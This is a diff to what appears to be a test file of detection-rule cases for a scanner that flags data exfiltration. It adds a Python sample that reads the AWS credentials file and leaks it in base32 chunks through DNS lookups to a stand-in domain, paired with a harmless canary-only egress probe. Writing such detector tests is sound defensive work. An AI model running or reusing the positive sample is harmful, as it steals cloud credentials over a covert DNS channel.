@@ -102,6 +102,30 @@ describeRuleCases('exfiltration', [
   },
   {
     id: 'SG-EXFIL-019',
+    // Python: base32 labels of a file's bytes, against labels made of a digest of a fixed canary, a
+    // counter and random bytes (an egress-filter test: no local data in the names).
+    file: 'egress_probe.py',
+    positive: [
+      'import base64, hashlib, os, socket',
+      'data = open(os.path.expanduser("~/.aws/credentials"), "rb").read()',
+      'for i in range(0, len(data), 30):',
+      '    blob = hashlib.sha256(CANARY).digest()[:2] + data[i:i + 30]',
+      '    label = base64.b32encode(blob).decode().rstrip("=").lower()',
+      '    socket.getaddrinfo(f"{i:04d}.{label}.t.example", None)',
+    ].join('\n'),
+    negative: [
+      'import base64, hashlib, os, socket',
+      'CANARY = b"EGRESS-TEST canary; no data"',
+      'def shape(zone, n):',
+      '    for i in range(n):',
+      '        blob = hashlib.sha256(CANARY + str(i).encode()).digest() + os.urandom(8)',
+      '        label = base64.b32encode(blob).decode().rstrip("=").lower()[:60]',
+      '        name = f"{i:04d}.{label}.{zone}"',
+      '        socket.getaddrinfo(name, None)',
+    ].join('\n'),
+  },
+  {
+    id: 'SG-EXFIL-019',
     // PowerShell: base64 chunks of a file as the leftmost labels of Resolve-DnsName lookups.
     file: 'scripts/diag.ps1',
     positive: [
